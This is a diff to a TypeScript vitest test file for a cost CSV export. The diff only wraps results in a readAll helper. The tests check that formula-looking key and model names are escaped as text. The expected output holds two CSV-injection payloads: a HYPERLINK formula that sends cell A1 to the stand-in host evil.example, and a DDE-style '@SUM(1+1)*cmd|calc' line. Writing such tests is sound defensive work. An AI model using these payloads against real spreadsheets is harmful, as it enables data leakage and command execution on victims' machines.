@@ -1,7 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { costCsv, costQuery } from '../src/server/cost';
 import { createKey, createKeyInput } from '../src/server/keys';
-import { type AdminTestContext, startAdminTestContext } from './admin-test-context';
+import { type AdminTestContext, readAll, startAdminTestContext } from './admin-test-context';
 import { insertHourlyRollups } from './rollup-fixtures';
 
 let t: AdminTestContext;
@@ -28,14 +28,16 @@ afterAll(async () => {
 
 describe('cost CSV export', () => {
   it('writes a formula-looking key name as text', async () => {
-    const csv = await costCsv(t.ctx, t.viewer, costQuery.parse({ ...window, groupBy: 'key' }));
+    const csv = await readAll(await costCsv(t.ctx, t.viewer, costQuery.parse({ ...window, groupBy: 'key' })));
     const line = csv.split('\r\n')[1] ?? '';
     expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
     expect(line).not.toMatch(/,=|,"=/);
   });
 
   it('writes a formula-looking model name as text', async () => {
-    const csv = await costCsv(t.ctx, t.viewer, costQuery.parse({ ...window, groupBy: 'model' }));
+    const csv = await readAll(
+      await costCsv(t.ctx, t.viewer, costQuery.parse({ ...window, groupBy: 'model' })),
+    );
     const line = csv.split('\r\n')[1] ?? '';
     expect(line).toContain(",'@SUM(1+1)*cmd|calc,");
     expect(line.endsWith(',0.0015')).toBe(true);
